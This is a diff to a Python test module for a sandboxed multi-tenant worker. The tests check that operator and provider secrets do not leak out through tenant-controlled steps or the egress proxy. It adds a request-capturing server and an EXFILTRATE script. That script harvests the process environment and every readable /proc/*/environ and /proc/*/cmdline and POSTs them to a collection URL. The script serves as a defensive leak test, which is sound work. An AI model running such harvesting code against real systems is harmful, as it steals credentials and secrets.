@@ -4,9 +4,14 @@ The worker runs with canary values in its environment: the key of the provider t
 declared, and secrets it holds for other reasons (an unrelated token, cloud keys). A tenant
 with an ordinary key then drives the doors that make a worker send something out on its
 behalf: a profile naming its own endpoint and a variable (refused), a profile stored that way
-before providers existed (refused at submission), a run on the operator's provider (its key
-goes to that provider only), and a step that reads its environment and calls out. No canary
-may reach any address but the one the operator declared for it.
+before providers existed (refused at submission), a run queued that way before the upgrade
+(resolved by the worker: it fails, or goes on with the matching declaration), a run on the
+operator's provider (its key goes to that provider only), a step that reads its environment
+and calls out (refused), and a step granted a domain that sends everything it can read there
+through the egress proxy. No canary may reach any address but the one the operator declared
+for it. Other doors send nothing a tenant steers: package installs run pip inside a sandbox
+like the steps here (only pip's own variables added), cache verification and embeddings use
+the operator's ``llm``/``embedding`` settings, and knowledge has no URL ingestion.
 """
 
 from __future__ import annotations
@@ -14,8 +19,10 @@ from __future__ import annotations
 import asyncio
 import contextlib
 import json
+import threading
 from collections.abc import AsyncIterator
 from dataclasses import dataclass
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
 import httpx
@@ -78,6 +85,9 @@ async def idle(db: Database, settings: Settings,
     for name, value in (*CANARIES.items(), OPERATOR_KEY):
         monkeypatch.setenv(name, value)
     settings.runtime.poll_s = 0.1
+    # the operator lets granted steps reach this host's test servers (a step still needs
+    # the grant: an ungranted call to the attacker's server is refused)
+    settings.sandbox.egress_allow_private = ["127.0.0.1"]
     with ScriptedOpenAIServer() as attacker, ScriptedOpenAIServer() as operator:
         settings.providers = [ProviderSettings(name="op", base_url=operator.base_url,
                                                api_key_env=OPERATOR_KEY[0], models=["op-model"])]
@@ -96,6 +106,50 @@ async def idle(db: Database, settings: Settings,
 async def setup(idle: tuple[Setup, Stack]) -> AsyncIterator[Setup]:
     async with idle[1].worker():
         yield idle[0]
+
+
+class CaptureServer:
+    """Records every request it receives (any method and path: the line, headers and body),
+    answering 200 ``{}``."""
+
+    def __init__(self) -> None:
+        self.requests: list[str] = []
+        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
+        self._thread = threading.Thread(target=self._httpd.serve_forever, args=(0.05,),
+                                        daemon=True)
+
+    @property
+    def port(self) -> int:
+        return int(self._httpd.server_address[1])
+
+    def __enter__(self) -> CaptureServer:
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self._httpd.shutdown()
+        self._httpd.server_close()
+
+    def _handler(self) -> type[BaseHTTPRequestHandler]:
+        seen = self.requests
+
+        class Handler(BaseHTTPRequestHandler):
+            def _any(self) -> None:
+                length = int(self.headers.get("Content-Length") or 0)
+                body = self.rfile.read(length) if length else b""
+                seen.append(f"{self.requestline}\n{self.headers}\n"
+                            + body.decode("utf-8", "replace"))
+                self.send_response(200)
+                self.send_header("Content-Length", "2")
+                self.end_headers()
+                self.wfile.write(b"{}")
+
+            do_GET = do_POST = do_PUT = _any  # noqa: N815 - http.server naming
+
+            def log_message(self, format: str, *args: Any) -> None:
+                return
+
+        return Handler
 
 
 def _seen(server: ScriptedOpenAIServer) -> str:
@@ -212,3 +266,37 @@ async def test_a_run_kept_with_a_declared_endpoint_uses_the_declaration(
     assert run["status"] == "SUCCEEDED", run.get("error")
     assert {h["authorization"] for h in setup.operator.headers} == {f"Bearer {OPERATOR_KEY[1]}"}
     assert setup.attacker.requests == []
+
+
+# Every file a step can read that might hold a process's environment, sent out whole.
+EXFILTRATE = """
+import glob, json, os, urllib.request
+found = {"env": dict(os.environ)}
+for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
+    try:
+        found[path] = open(path, "rb").read().decode("latin-1")
+    except OSError as exc:
+        found[path] = repr(exc)
+data = json.dumps(found).encode()
+req = urllib.request.Request("http://localhost:%d/collect", data=data, method="POST")
+print("sent", urllib.request.urlopen(req, timeout=10).status)
+"""
+
+
+async def test_a_step_granted_a_domain_sends_it_no_worker_secret(
+        idle: tuple[Setup, Stack]) -> None:
+    setup, stack = idle
+    with CaptureServer() as sink:
+        plan = {"name": "out", "steps": [{
+            "id": "out", "tool": "python", "code": EXFILTRATE % sink.port,
+            "allow_domains": [f"localhost:{sink.port}"]}]}
+        async with stack.worker(), setup.client() as c:
+            r = await c.post("/v1/runs", json={"plan": plan})
+            assert r.status_code == 201, r.text
+            run = await _ended(c, r.json()["run_id"])
+            detail = (await c.get(f"/v1/runs/{run['id']}")).text
+    assert run["status"] == "SUCCEEDED", detail[-3000:]
+    assert len(sink.requests) == 1 and "POST /collect" in sink.requests[0], sink.requests
+    assert '"env": {' in sink.requests[0], "the step's environment was sent out"
+    for value in (*CANARIES.values(), OPERATOR_KEY[1]):
+        assert value not in sink.requests[0], "a worker secret left through the egress proxy"
